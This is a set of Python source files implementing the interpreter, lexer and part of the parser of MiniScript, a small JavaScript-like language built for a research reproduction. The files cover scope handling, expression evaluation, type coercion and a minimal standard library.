class Environment:
    """Lexically scoped variable bindings.

    Name resolution is the interpreter's hottest operation (every identifier
    read walks the scope chain), so the walk uses one ``dict.get`` probe per
    scope with a sentinel instead of a ``in`` check followed by a second
    lookup -- the reuse-heavy scenario workloads resolve the same handful of
    globals (``document``, ``window``, ``XMLHttpRequest``) millions of times.
    """

    __slots__ = ("parent", "values")

    def __init__(self, parent: Optional["Environment"] = None) -> None:
        self.parent = parent
        self.values: dict[str, Any] = {}

    def define(self, name: str, value) -> None:
        """Create (or overwrite) a binding in this scope."""
        self.values[name] = value

    def lookup(self, name: str):
        """Resolve a name, walking outward; raises for unknown names."""
        env: Optional[Environment] = self
        while env is not None:
            value = env.values.get(name, _UNBOUND)
            if value is not _UNBOUND:
                return value
            env = env.parent
        raise RuntimeScriptError(f"{name!r} is not defined")

    def assign(self, name: str, value) -> None:
        """Assign to an existing binding, or create a global if none exists."""
        env: Optional[Environment] = self
        while env is not None:
            if name in env.values:
                env.values[name] = value
                return
            env = env.parent
        # Undeclared assignment creates a global, like sloppy-mode JavaScript.
        root = self
        while root.parent is not None:
            root = root.parent
        root.values[name] = value

    def has(self, name: str) -> bool:
        """Whether the name resolves in this or any outer scope."""
        env: Optional[Environment] = self
        while env is not None:
            if name in env.values:
                return True
            env = env.parent
        return False


@dataclass
class ExecutionResult:
    """Outcome of running one script."""

    value: Any = None
    error: ScriptError | None = None
    steps: int = 0
    completed: bool = True

    @property
    def failed(self) -> bool:
        """True when the script raised an error (including budget exhaustion)."""
        return self.error is not None


class _ReturnSignal(Exception):
    def __init__(self, value) -> None:
        self.value = value


class _BreakSignal(Exception):
    pass


class _ContinueSignal(Exception):
    pass


class Interpreter:
    """Executes MiniScript programs against a set of global host bindings."""

    def __init__(self, globals_map: dict[str, Any] | None = None, *, max_steps: int = 500_000) -> None:
        self.globals = Environment()
        self.max_steps = max_steps
        self._steps = 0
        # One bulk update: the standard library is a shared immutable-valued
        # dict (built once per process), and scripts rebinding a stdlib name
        # only touch their own environment's dict.
        self.globals.values.update(_standard_library())
        if globals_map:
            self.globals.values.update(globals_map)

    # -- public API -----------------------------------------------------------------

    def run(self, source_or_program: str | ast.Program) -> ExecutionResult:
        """Execute a program (parsing it first when given source text)."""
        self._steps = 0
        try:
            program = (
                source_or_program
                if isinstance(source_or_program, ast.Program)
                else parse_script(source_or_program)
            )
        except ScriptError as error:
            return ExecutionResult(error=error, completed=False)
        value = None
        try:
            for statement in program.body:
                value = self._execute(statement, self.globals)
        except ScriptError as error:
            return ExecutionResult(error=error, steps=self._steps, completed=False)
        except (_ReturnSignal, _BreakSignal, _ContinueSignal):
            return ExecutionResult(
                error=RuntimeScriptError("illegal return/break/continue at top level"),
                steps=self._steps,
                completed=False,
            )
        return ExecutionResult(value=value, steps=self._steps)

    def call_function(self, function, args: Iterable = ()) -> Any:
        """Invoke a script or native function from host code (event dispatch)."""
        return self._call_value(function, list(args))

    # -- execution ---------------------------------------------------------------------

    def _tick(self, line: int = 0) -> None:
        self._steps += 1
        if self._steps > self.max_steps:
            raise BudgetExceeded("script exceeded its execution budget", line)

    def _execute(self, node: ast.Node, env: Environment):
        """Execute one statement, stamping raised errors with its line.

        The innermost node's wrapper sees an unstamped error first, so the
        recorded position is the most precise one available; outer frames
        leave an already-stamped error untouched.
        """
        try:
            return self._execute_node(node, env)
        except ScriptError as error:
            if error.line is None and getattr(node, "line", 0):
                error.line = node.line
            raise

    def _evaluate(self, node: ast.Node, env: Environment):
        """Evaluate one expression, stamping raised errors with its line."""
        try:
            return self._evaluate_node(node, env)
        except ScriptError as error:
            if error.line is None and getattr(node, "line", 0):
                error.line = node.line
            raise

    def _execute_node(self, node: ast.Node, env: Environment):
        self._tick(node.line)
        if isinstance(node, ast.ExpressionStatement):
            return self._evaluate(node.expression, env)
        if isinstance(node, ast.VarDeclaration):
            value = self._evaluate(node.initializer, env) if node.initializer is not None else None
            env.define(node.name, value)
            return None
        if isinstance(node, ast.FunctionDeclaration):
            env.define(node.name, ScriptFunction(declaration=node, closure=env))
            return None
        if isinstance(node, ast.Return):
            raise _ReturnSignal(self._evaluate(node.value, env) if node.value is not None else None)
        if isinstance(node, ast.If):
            if _truthy(self._evaluate(node.test, env)):
                return self._execute(node.consequent, env)
            if node.alternate is not None:
                return self._execute(node.alternate, env)
            return None
        if isinstance(node, ast.While):
            while _truthy(self._evaluate(node.test, env)):
                self._tick(node.line)
                try:
                    self._execute(node.body, env)
                except _BreakSignal:
                    break
                except _ContinueSignal:
                    continue
            return None
        if isinstance(node, ast.For):
            loop_env = Environment(env)
            if node.init is not None:
                self._execute(node.init, loop_env)
            while node.test is None or _truthy(self._evaluate(node.test, loop_env)):
                self._tick(node.line)
                try:
                    self._execute(node.body, loop_env)
                except _BreakSignal:
                    break
                except _ContinueSignal:
                    pass
                if node.update is not None:
                    self._evaluate(node.update, loop_env)
            return None
        if isinstance(node, ast.Block):
            block_env = Environment(env)
            result = None
            for statement in node.statements:
                result = self._execute(statement, block_env)
            return result
        if isinstance(node, ast.Break):
            raise _BreakSignal()
        if isinstance(node, ast.Continue):
            raise _ContinueSignal()
        # Expressions used in statement position (e.g. inside for-init).
        return self._evaluate(node, env)

    # -- evaluation ----------------------------------------------------------------------

    def _evaluate_node(self, node: ast.Node, env: Environment):
        self._tick(node.line)
        if isinstance(node, ast.NumberLiteral):
            return node.value
        if isinstance(node, ast.StringLiteral):
            return node.value
        if isinstance(node, ast.BooleanLiteral):
            return node.value
        if isinstance(node, ast.NullLiteral):
            return None
        if isinstance(node, ast.Identifier):
            return env.lookup(node.name)
        if isinstance(node, ast.ArrayLiteral):
            return [self._evaluate(element, env) for element in node.elements]
        if isinstance(node, ast.ObjectLiteral):
            return {key: self._evaluate(value, env) for key, value in node.entries}
        if isinstance(node, ast.FunctionExpression):
            return ScriptFunction(declaration=node, closure=env)
        if isinstance(node, ast.Unary):
            return self._unary(node, env)
        if isinstance(node, ast.Binary):
            return self._binary(node, env)
        if isinstance(node, ast.Conditional):
            if _truthy(self._evaluate(node.test, env)):
                return self._evaluate(node.consequent, env)
            return self._evaluate(node.alternate, env)
        if isinstance(node, ast.Assignment):
            return self._assign(node, env)
        if isinstance(node, ast.MemberAccess):
            target = self._evaluate(node.target, env)
            return self._get_member(target, self._member_name(node, env), node.line)
        if isinstance(node, ast.Call):
            return self._call(node, env)
        if isinstance(node, ast.NewExpression):
            constructor = env.lookup(node.constructor)
            args = [self._evaluate(argument, env) for argument in node.arguments]
            if isinstance(constructor, NativeConstructor):
                return constructor.construct(args)
            if isinstance(constructor, ScriptFunction):
                instance: dict[str, Any] = {}
                self._invoke_script_function(constructor, args, this_value=instance)
                return instance
            raise RuntimeScriptError(f"{node.constructor} is not constructible", node.line)
        raise RuntimeScriptError(f"cannot evaluate {type(node).__name__}", getattr(node, "line", 0))

    def _member_name(self, node: ast.MemberAccess, env: Environment) -> str:
        if node.computed:
            return _to_property_key(self._evaluate(node.index, env))
        return node.name or ""

    def _unary(self, node: ast.Unary, env: Environment):
        if node.operator == "typeof":
            try:
                value = self._evaluate(node.operand, env)
            except RuntimeScriptError:
                return "undefined"
            return _typeof(value)
        value = self._evaluate(node.operand, env)
        if node.operator == "!":
            return not _truthy(value)
        if node.operator == "-":
            return -_to_number(value)
        if node.operator == "+":
            return _to_number(value)
        raise RuntimeScriptError(f"unknown unary operator {node.operator}", node.line)

    def _binary(self, node: ast.Binary, env: Environment):
        operator = node.operator
        if operator == "&&":
            left = self._evaluate(node.left, env)
            return self._evaluate(node.right, env) if _truthy(left) else left
        if operator == "||":
            left = self._evaluate(node.left, env)
            return left if _truthy(left) else self._evaluate(node.right, env)
        left = self._evaluate(node.left, env)
        right = self._evaluate(node.right, env)
        if operator == "+":
            if isinstance(left, str) or isinstance(right, str):
                return _to_string(left) + _to_string(right)
            return _to_number(left) + _to_number(right)
        if operator == "-":
            return _to_number(left) - _to_number(right)
        if operator == "*":
            return _to_number(left) * _to_number(right)
        if operator == "/":
            right_number = _to_number(right)
            if right_number == 0:
                return float("inf") if _to_number(left) > 0 else float("-inf") if _to_number(left) < 0 else float("nan")
            return _to_number(left) / right_number
        if operator == "%":
            return _to_number(left) % _to_number(right)
        if operator in ("==", "==="):
            return _loose_equal(left, right)
        if operator in ("!=", "!=="):
            return not _loose_equal(left, right)
        if operator == "<":
            return _compare(left, right) < 0
        if operator == ">":
            return _compare(left, right) > 0
        if operator == "<=":
            return _compare(left, right) <= 0
        if operator == ">=":
            return _compare(left, right) >= 0
        raise RuntimeScriptError(f"unknown operator {operator}", node.line)

    def _assign(self, node: ast.Assignment, env: Environment):
        value = self._evaluate(node.value, env)
        if node.operator != "=":
            current = self._evaluate(node.target, env)
            base_operator = node.operator[0]
            combined = ast.Binary(operator=base_operator, left=ast.NullLiteral(), right=ast.NullLiteral())
            # Re-use the binary evaluation logic by computing directly:
            if base_operator == "+":
                value = (current + value) if not (isinstance(current, str) or isinstance(value, str)) \
                    else _to_string(current) + _to_string(value)
            elif base_operator == "-":
                value = _to_number(current) - _to_number(value)
            elif base_operator == "*":
                value = _to_number(current) * _to_number(value)
            elif base_operator == "/":
                value = _to_number(current) / _to_number(value)
            del combined
        target = node.target
        if isinstance(target, ast.Identifier):
            env.assign(target.name, value)
            return value
        if isinstance(target, ast.MemberAccess):
            obj = self._evaluate(target.target, env)
            name = self._member_name(target, env)
            self._set_member(obj, name, value, target.line)
            return value
        raise RuntimeScriptError("invalid assignment target", node.line)

    # -- member protocol ---------------------------------------------------------------------

    def _get_member(self, target, name: str, line: int):
        if isinstance(target, HostObject):
            return target.js_get(name)
        if isinstance(target, dict):
            return target.get(name)
        if isinstance(target, list):
            return _array_member(target, name, line)
        if isinstance(target, str):
            return _string_member(target, name, line)
        if isinstance(target, (int, float)) and not isinstance(target, bool):
            if name == "toString":
                return NativeFunction(lambda: _to_string(target), "toString")
        if target is None:
            raise RuntimeScriptError(f"cannot read property {name!r} of null", line)
        raise RuntimeScriptError(f"cannot read property {name!r} of {_typeof(target)}", line)

    def _set_member(self, target, name: str, value, line: int) -> None:
        if isinstance(target, HostObject):
            target.js_set(name, value)
            return
        if isinstance(target, dict):
            target[name] = value
            return
        if isinstance(target, list):
            try:
                index = int(float(name))
            except ValueError:
                raise RuntimeScriptError(f"invalid array index {name!r}", line) from None
            while len(target) <= index:
                target.append(None)
            target[index] = value
            return
        if target is None:
            raise RuntimeScriptError(f"cannot set property {name!r} of null", line)
        raise RuntimeScriptError(f"cannot set property {name!r} on {_typeof(target)}", line)

    # -- calls ------------------------------------------------------------------------------------

    def _call(self, node: ast.Call, env: Environment):
        args = [self._evaluate(argument, env) for argument in node.arguments]
        callee = node.callee
        if isinstance(callee, ast.MemberAccess):
            target = self._evaluate(callee.target, env)
            name = self._member_name(callee, env)
            if isinstance(target, HostObject):
                return target.js_call(name, args)
            member = self._get_member(target, name, callee.line)
            return self._call_value(member, args, this_value=target)
        function = self._evaluate(callee, env)
        return self._call_value(function, args)

    def _call_value(self, function, args: list, this_value=None):
        if isinstance(function, ScriptFunction):
            return self._invoke_script_function(function, args, this_value=this_value)
        if isinstance(function, NativeFunction):
            return function(*args)
        if callable(function):
            return function(*args)
        raise RuntimeScriptError(f"{_to_string(function)} is not a function")

    def _invoke_script_function(self, function: ScriptFunction, args: list, this_value=None):
        env = Environment(function.closure)
        for index, parameter in enumerate(function.parameters):
            env.define(parameter, args[index] if index < len(args) else None)
        env.define("arguments", list(args))
        if this_value is not None:
            env.define("this", this_value)
        try:
            self._execute(function.declaration.body, env)
        except _ReturnSignal as signal:
            return signal.value
        return None


# -- value semantics helpers -------------------------------------------------------------------


def _truthy(value) -> bool:
    if value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return value != 0
    if isinstance(value, str):
        return value != ""
    return True


def _to_number(value) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, (int, float)):
        return float(value)
    if isinstance(value, str):
        try:
            return float(value) if value.strip() else 0.0
        except ValueError:
            return float("nan")
    if value is None:
        return 0.0
    return float("nan")


def _to_string(value) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if value != value:  # NaN
            return "NaN"
        if value == int(value) and abs(value) < 1e15:
            return str(int(value))
        return str(value)
    if isinstance(value, (int,)):
        return str(value)
    if isinstance(value, str):
        return value
    if isinstance(value, list):
        return ",".join(_to_string(item) for item in value)
    if isinstance(value, dict):
        return "[object Object]"
    if isinstance(value, HostObject):
        return f"[object {value.host_name}]"
    if isinstance(value, (ScriptFunction, NativeFunction)):
        return f"function {getattr(value, 'name', '')}"
    return str(value)


def _typeof(value) -> str:
    if value is None:
        return "object"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, (int, float)):
        return "number"
    if isinstance(value, str):
        return "string"
    if isinstance(value, (ScriptFunction, NativeFunction, NativeConstructor)) or callable(value):
        return "function"
    return "object"


def _loose_equal(left, right) -> bool:
    if isinstance(left, (int, float)) and isinstance(right, (int, float)) \
            and not isinstance(left, bool) and not isinstance(right, bool):
        return float(left) == float(right)
    if isinstance(left, str) and isinstance(right, (int, float)) and not isinstance(right, bool):
        return _to_number(left) == float(right)
    if isinstance(right, str) and isinstance(left, (int, float)) and not isinstance(left, bool):
        return _to_number(right) == float(left)
    return left == right


def _compare(left, right) -> int:
    if isinstance(left, str) and isinstance(right, str):
        return (left > right) - (left < right)
    left_number, right_number = _to_number(left), _to_number(right)
    return (left_number > right_number) - (left_number < right_number)


def _to_property_key(value) -> str:
    if isinstance(value, float) and value == int(value):
        return str(int(value))
    return _to_string(value)


def _array_member(target: list, name: str, line: int):
    if name == "length":
        return float(len(target))
    if name == "push":
        return NativeFunction(lambda *items: (target.extend(items), float(len(target)))[1], "push")
    if name == "pop":
        return NativeFunction(lambda: target.pop() if target else None, "pop")
    if name == "join":
        return NativeFunction(lambda sep=",": _to_string(sep).join(_to_string(i) for i in target), "join")
    if name == "indexOf":
        return NativeFunction(
            lambda item: float(target.index(item)) if item in target else -1.0, "indexOf"
        )
    if name == "slice":
        return NativeFunction(
            lambda start=0, end=None: target[int(start): int(end) if end is not None else None], "slice"
        )
    try:
        index = int(name)
    except ValueError:
        raise RuntimeScriptError(f"array has no property {name!r}", line) from None
    if 0 <= index < len(target):
        return target[index]
    return None


def _string_member(target: str, name: str, line: int):
    if name == "length":
        return float(len(target))
    if name == "indexOf":
        return NativeFunction(lambda needle: float(target.find(_to_string(needle))), "indexOf")
    if name == "substring":
        return NativeFunction(
            lambda start, end=None: target[int(start): int(end) if end is not None else None], "substring"
        )
    if name == "slice":
        return NativeFunction(
            lambda start, end=None: target[int(start): int(end) if end is not None else None], "slice"
        )
    if name == "toUpperCase":
        return NativeFunction(lambda: target.upper(), "toUpperCase")
    if name == "toLowerCase":
        return NativeFunction(lambda: target.lower(), "toLowerCase")
    if name == "split":
        return NativeFunction(lambda sep=",": target.split(_to_string(sep)), "split")
    if name == "replace":
        return NativeFunction(lambda old, new: target.replace(_to_string(old), _to_string(new), 1), "replace")
    if name == "charAt":
        return NativeFunction(lambda i: target[int(i)] if 0 <= int(i) < len(target) else "", "charAt")
    if name == "trim":
        return NativeFunction(lambda: target.strip(), "trim")
    if name == "concat":
        return NativeFunction(lambda *parts: target + "".join(_to_string(p) for p in parts), "concat")
    try:
        index = int(name)
    except ValueError:
        raise RuntimeScriptError(f"string has no property {name!r}", line) from None
    return target[index] if 0 <= index < len(target) else None


_STDLIB: dict[str, Any] | None = None


def _standard_library() -> dict[str, Any]:
    """Globals available to every script regardless of the host environment.

    Built once per process and shared between interpreters: every member is
    stateless (pure native functions and the ``Math``/``JSON`` hosts, which
    refuse writes), and interpreters copy the *bindings* into their own
    global environment, so sharing the values is unobservable.
    """
    global _STDLIB
    if _STDLIB is not None:
        return _STDLIB
    import math

    _STDLIB = {
        "parseInt": NativeFunction(lambda value, base=10: float(int(_to_string(value).strip() or "0", int(base))), "parseInt"),
        "parseFloat": NativeFunction(lambda value: _to_number(value), "parseFloat"),
        "String": NativeFunction(_to_string, "String"),
        "Number": NativeFunction(_to_number, "Number"),
        "isNaN": NativeFunction(lambda value: _to_number(value) != _to_number(value), "isNaN"),
        "Math": _MathHost(),
        "JSON": _JsonHost(),
        "undefined": None,
        "Infinity": math.inf,
        "NaN": math.nan,
    }
    return _STDLIB


class _MathHost(HostObject):
    """The ``Math`` global."""

    host_name = "Math"

    def js_get(self, name: str):
        import math

        members = {
            "floor": NativeFunction(lambda v: float(math.floor(_to_number(v))), "floor"),
            "ceil": NativeFunction(lambda v: float(math.ceil(_to_number(v))), "ceil"),
            "round": NativeFunction(lambda v: float(round(_to_number(v))), "round"),
            "abs": NativeFunction(lambda v: abs(_to_number(v)), "abs"),
            "max": NativeFunction(lambda *vs: max(_to_number(v) for v in vs), "max"),
            "min": NativeFunction(lambda *vs: min(_to_number(v) for v in vs), "min"),
            "pow": NativeFunction(lambda a, b: _to_number(a) ** _to_number(b), "pow"),
            "sqrt": NativeFunction(lambda v: math.sqrt(_to_number(v)), "sqrt"),
            "PI": math.pi,
            "E": math.e,
        }
        if name not in members:
            raise RuntimeScriptError(f"Math has no property {name!r}")
        return members[name]


class _JsonHost(HostObject):
    """A small ``JSON`` global (stringify/parse of plain data)."""

    host_name = "JSON"

    def js_get(self, name: str):
        import json

        if name == "stringify":
            return NativeFunction(lambda value: json.dumps(_plain(value)), "stringify")
        if name == "parse":
            return NativeFunction(lambda text: json.loads(_to_string(text)), "parse")
        raise RuntimeScriptError(f"JSON has no property {name!r}")


def _plain(value):
    """Convert script values into JSON-serialisable Python structures."""
    if isinstance(value, list):
        return [_plain(item) for item in value]
    if isinstance(value, dict):
        return {key: _plain(item) for key, item in value.items()}
    if isinstance(value, float) and value == int(value):
        return int(value)
    if isinstance(value, HostObject):
        return str(value)
    return value
