"""MiniScript lexer.

MiniScript is the reproduction's stand-in for JavaScript: a small,
JavaScript-flavoured language rich enough to express the scripts the paper's
applications and attacks need (DOM manipulation, cookie access,
``XMLHttpRequest`` use, event handlers), implemented entirely from scratch.

The lexer converts source text into a flat token list with line/column
information for error reporting.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from .errors import LexError


class TokenType(enum.Enum):
    """Lexical categories."""

    NUMBER = "number"
    STRING = "string"
    IDENTIFIER = "identifier"
    KEYWORD = "keyword"
    PUNCTUATION = "punctuation"
    OPERATOR = "operator"
    EOF = "eof"


KEYWORDS = frozenset(
    {
        "var",
        "function",
        "return",
        "if",
        "else",
        "while",
        "for",
        "true",
        "false",
        "null",
        "new",
        "typeof",
        "break",
        "continue",
    }
)

#: Multi-character operators, longest first so maximal munch works.
_OPERATORS = (
    "===", "!==", "==", "!=", "<=", ">=", "&&", "||", "+=", "-=", "*=", "/=", "++", "--",
    "+", "-", "*", "/", "%", "<", ">", "=", "!",
)

_PUNCTUATION = "(){}[];,.:?"


@dataclass(frozen=True)
class ScriptToken:
    """One lexical token."""

    type: TokenType
    value: str
    line: int
    column: int

    def is_keyword(self, word: str) -> bool:
        """True when this token is the given keyword."""
        return self.type is TokenType.KEYWORD and self.value == word

    def is_punct(self, mark: str) -> bool:
        """True when this token is the given punctuation mark."""
        return self.type is TokenType.PUNCTUATION and self.value == mark

    def is_op(self, op: str) -> bool:
        """True when this token is the given operator."""
        return self.type is TokenType.OPERATOR and self.value == op


def tokenize_script(source: str) -> list[ScriptToken]:
    """Tokenise MiniScript source into a list ending with an EOF token."""
    tokens: list[ScriptToken] = []
    pos = 0
    line = 1
    column = 1
    length = len(source)

    def advance(count: int) -> None:
        nonlocal pos, line, column
        for _ in range(count):
            if pos < length and source[pos] == "\n":
                line += 1
                column = 1
            else:
                column += 1
            pos += 1

    while pos < length:
        ch = source[pos]

        # Whitespace
        if ch.isspace():
            advance(1)
            continue

        # Comments
        if source.startswith("//", pos):
            end = source.find("\n", pos)
            advance((end - pos) if end != -1 else (length - pos))
            continue
        if source.startswith("/*", pos):
            end = source.find("*/", pos + 2)
            if end == -1:
                raise LexError("unterminated block comment", line, column)
            advance(end + 2 - pos)
            continue

        # Strings
        if ch in "\"'":
            start_line, start_col = line, column
            quote = ch
            advance(1)
            value_chars: list[str] = []
            while pos < length and source[pos] != quote:
                c = source[pos]
                if c == "\\" and pos + 1 < length:
                    escape = source[pos + 1]
                    mapping = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", "'": "'", '"': '"', "0": "\0"}
                    value_chars.append(mapping.get(escape, escape))
                    advance(2)
                    continue
                value_chars.append(c)
                advance(1)
            if pos >= length:
                raise LexError("unterminated string literal", start_line, start_col)
            advance(1)  # closing quote
            tokens.append(ScriptToken(TokenType.STRING, "".join(value_chars), start_line, start_col))
            continue

        # Numbers
        if ch.isdigit() or (ch == "." and pos + 1 < length and source[pos + 1].isdigit()):
            start_line, start_col = line, column
            start = pos
            seen_dot = False
            while pos < length and (source[pos].isdigit() or (source[pos] == "." and not seen_dot)):
                if source[pos] == ".":
                    seen_dot = True
                advance(1)
            tokens.append(ScriptToken(TokenType.NUMBER, source[start:pos], start_line, start_col))
            continue

        # Identifiers and keywords
        if ch.isalpha() or ch == "_" or ch == "$":
            start_line, start_col = line, column
            start = pos
            while pos < length and (source[pos].isalnum() or source[pos] in "_$"):
                advance(1)
            word = source[start:pos]
            token_type = TokenType.KEYWORD if word in KEYWORDS else TokenType.IDENTIFIER
            tokens.append(ScriptToken(token_type, word, start_line, start_col))
            continue

        # Operators
        matched = False
        for op in _OPERATORS:
            if source.startswith(op, pos):
                tokens.append(ScriptToken(TokenType.OPERATOR, op, line, column))
                advance(len(op))
                matched = True
                break
        if matched:
            continue

        # Punctuation
        if ch in _PUNCTUATION:
            tokens.append(ScriptToken(TokenType.PUNCTUATION, ch, line, column))
            advance(1)
            continue

        raise LexError(f"unexpected character {ch!r}", line, column)

    tokens.append(ScriptToken(TokenType.EOF, "", line, column))
    return tokens
