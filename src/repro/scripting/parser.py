"""MiniScript recursive-descent parser.

Grammar (roughly JavaScript's expression grammar with the usual precedence
levels)::

    program        := statement*
    statement      := varDecl | funcDecl | return | if | while | for | break
                    | continue | block | expressionStatement
    expression     := assignment
    assignment     := conditional (('=' | '+=' | '-=' | '*=' | '/=') assignment)?
    conditional    := logicalOr ('?' expression ':' expression)?
    logicalOr      := logicalAnd ('||' logicalAnd)*
    logicalAnd     := equality ('&&' equality)*
    equality       := comparison (('=='|'!='|'==='|'!==') comparison)*
    comparison     := additive (('<'|'>'|'<='|'>=') additive)*
    additive       := multiplicative (('+'|'-') multiplicative)*
    multiplicative := unary (('*'|'/'|'%') unary)*
    unary          := ('!'|'-'|'+'|'typeof') unary | postfix
    postfix        := primary (call | member | index)*
    primary        := number | string | true | false | null | identifier
                    | '(' expression ')' | arrayLiteral | objectLiteral
                    | functionExpression | newExpression
"""

from __future__ import annotations

from . import ast_nodes as ast
from .errors import ParseError
from .lexer import ScriptToken, TokenType, tokenize_script

_ASSIGNMENT_OPERATORS = {"=", "+=", "-=", "*=", "/="}


def parse_script(source: str) -> ast.Program:
    """Parse MiniScript source text into a :class:`~ast_nodes.Program`."""
    return Parser(tokenize_script(source)).parse_program()


class Parser:
    """Recursive-descent parser over the token list."""

    def __init__(self, tokens: list[ScriptToken]) -> None:
        self._tokens = tokens
        self._pos = 0

    # -- token helpers ---------------------------------------------------------------

    def _peek(self, offset: int = 0) -> ScriptToken:
        index = min(self._pos + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> ScriptToken:
        token = self._tokens[self._pos]
        if token.type is not TokenType.EOF:
            self._pos += 1
        return token

    def _expect_punct(self, mark: str) -> ScriptToken:
        token = self._peek()
        if not token.is_punct(mark):
            raise ParseError(f"expected {mark!r}, found {token.value!r}", token.line, token.column)
        return self._advance()

    def _expect_identifier(self) -> ScriptToken:
        token = self._peek()
        if token.type is not TokenType.IDENTIFIER:
            raise ParseError(f"expected identifier, found {token.value!r}", token.line, token.column)
        return self._advance()

    def _match_punct(self, mark: str) -> bool:
        if self._peek().is_punct(mark):
            self._advance()
            return True
        return False

    def _match_keyword(self, word: str) -> bool:
        if self._peek().is_keyword(word):
            self._advance()
            return True
        return False

    def _consume_semicolon(self) -> None:
        self._match_punct(";")

    # -- program & statements ----------------------------------------------------------

    def parse_program(self) -> ast.Program:
        body: list[ast.Node] = []
        while self._peek().type is not TokenType.EOF:
            body.append(self._statement())
        return ast.Program(body=body)

    def _statement(self) -> ast.Node:
        token = self._peek()
        if token.is_keyword("var"):
            return self._var_declaration()
        if token.is_keyword("function") and self._peek(1).type is TokenType.IDENTIFIER:
            return self._function_declaration()
        if token.is_keyword("return"):
            return self._return_statement()
        if token.is_keyword("if"):
            return self._if_statement()
        if token.is_keyword("while"):
            return self._while_statement()
        if token.is_keyword("for"):
            return self._for_statement()
        if token.is_keyword("break"):
            self._advance()
            self._consume_semicolon()
            return ast.Break(line=token.line)
        if token.is_keyword("continue"):
            self._advance()
            self._consume_semicolon()
            return ast.Continue(line=token.line)
        if token.is_punct("{"):
            return self._block()
        expression = self._expression()
        self._consume_semicolon()
        return ast.ExpressionStatement(expression=expression, line=token.line)

    def _var_declaration(self) -> ast.Node:
        keyword = self._advance()
        name = self._expect_identifier().value
        initializer = None
        if self._peek().is_op("="):
            self._advance()
            initializer = self._expression()
        self._consume_semicolon()
        return ast.VarDeclaration(name=name, initializer=initializer, line=keyword.line)

    def _function_declaration(self) -> ast.Node:
        keyword = self._advance()
        name = self._expect_identifier().value
        parameters = self._parameter_list()
        body = self._block()
        return ast.FunctionDeclaration(name=name, parameters=parameters, body=body, line=keyword.line)

    def _parameter_list(self) -> list[str]:
        self._expect_punct("(")
        parameters: list[str] = []
        if not self._peek().is_punct(")"):
            while True:
                parameters.append(self._expect_identifier().value)
                if not self._match_punct(","):
                    break
        self._expect_punct(")")
        return parameters

    def _return_statement(self) -> ast.Node:
        keyword = self._advance()
        value = None
        if not self._peek().is_punct(";") and not self._peek().is_punct("}") \
                and self._peek().type is not TokenType.EOF:
            value = self._expression()
        self._consume_semicolon()
        return ast.Return(value=value, line=keyword.line)

    def _if_statement(self) -> ast.Node:
        keyword = self._advance()
        self._expect_punct("(")
        test = self._expression()
        self._expect_punct(")")
        consequent = self._statement()
        alternate = None
        if self._match_keyword("else"):
            alternate = self._statement()
        return ast.If(test=test, consequent=consequent, alternate=alternate, line=keyword.line)

    def _while_statement(self) -> ast.Node:
        keyword = self._advance()
        self._expect_punct("(")
        test = self._expression()
        self._expect_punct(")")
        body = self._statement()
        return ast.While(test=test, body=body, line=keyword.line)

    def _for_statement(self) -> ast.Node:
        keyword = self._advance()
        self._expect_punct("(")
        init = None
        if not self._peek().is_punct(";"):
            if self._peek().is_keyword("var"):
                init = self._var_declaration()
            else:
                init = ast.ExpressionStatement(expression=self._expression(), line=keyword.line)
                self._consume_semicolon()
        else:
            self._advance()
        test = None
        if not self._peek().is_punct(";"):
            test = self._expression()
        self._expect_punct(";")
        update = None
        if not self._peek().is_punct(")"):
            update = self._expression()
        self._expect_punct(")")
        body = self._statement()
        return ast.For(init=init, test=test, update=update, body=body, line=keyword.line)

    def _block(self) -> ast.Block:
        opening = self._expect_punct("{")
        statements: list[ast.Node] = []
        while not self._peek().is_punct("}") and self._peek().type is not TokenType.EOF:
            statements.append(self._statement())
        self._expect_punct("}")
        return ast.Block(statements=statements, line=opening.line)

    # -- expressions ----------------------------------------------------------------------

    def _expression(self) -> ast.Node:
        return self._assignment()

    def _assignment(self) -> ast.Node:
        target = self._conditional()
        token = self._peek()
        if token.type is TokenType.OPERATOR and token.value in _ASSIGNMENT_OPERATORS:
            if not isinstance(target, (ast.Identifier, ast.MemberAccess)):
                raise ParseError("invalid assignment target", token.line, token.column)
            self._advance()
            value = self._assignment()
            return ast.Assignment(target=target, value=value, operator=token.value, line=token.line)
        return target

    def _conditional(self) -> ast.Node:
        test = self._logical_or()
        if self._peek().is_punct("?"):
            token = self._advance()
            consequent = self._expression()
            self._expect_punct(":")
            alternate = self._expression()
            return ast.Conditional(test=test, consequent=consequent, alternate=alternate, line=token.line)
        return test

    def _logical_or(self) -> ast.Node:
        left = self._logical_and()
        while self._peek().is_op("||"):
            token = self._advance()
            right = self._logical_and()
            left = ast.Binary(operator="||", left=left, right=right, line=token.line)
        return left

    def _logical_and(self) -> ast.Node:
        left = self._equality()
        while self._peek().is_op("&&"):
            token = self._advance()
            right = self._equality()
            left = ast.Binary(operator="&&", left=left, right=right, line=token.line)
        return left

    def _equality(self) -> ast.Node:
        left = self._comparison()
        while self._peek().type is TokenType.OPERATOR and self._peek().value in ("==", "!=", "===", "!=="):
            token = self._advance()
            right = self._comparison()
            left = ast.Binary(operator=token.value, left=left, right=right, line=token.line)
        return left

    def _comparison(self) -> ast.Node:
        left = self._additive()
        while self._peek().type is TokenType.OPERATOR and self._peek().value in ("<", ">", "<=", ">="):
            token = self._advance()
            right = self._additive()
            left = ast.Binary(operator=token.value, left=left, right=right, line=token.line)
        return left

    def _additive(self) -> ast.Node:
        left = self._multiplicative()
        while self._peek().type is TokenType.OPERATOR and self._peek().value in ("+", "-"):
            token = self._advance()
            right = self._multiplicative()
            left = ast.Binary(operator=token.value, left=left, right=right, line=token.line)
        return left

    def _multiplicative(self) -> ast.Node:
        left = self._unary()
        while self._peek().type is TokenType.OPERATOR and self._peek().value in ("*", "/", "%"):
            token = self._advance()
            right = self._unary()
            left = ast.Binary(operator=token.value, left=left, right=right, line=token.line)
        return left

    def _unary(self) -> ast.Node:
        token = self._peek()
        if token.type is TokenType.OPERATOR and token.value in ("!", "-", "+"):
            self._advance()
            operand = self._unary()
            return ast.Unary(operator=token.value, operand=operand, line=token.line)
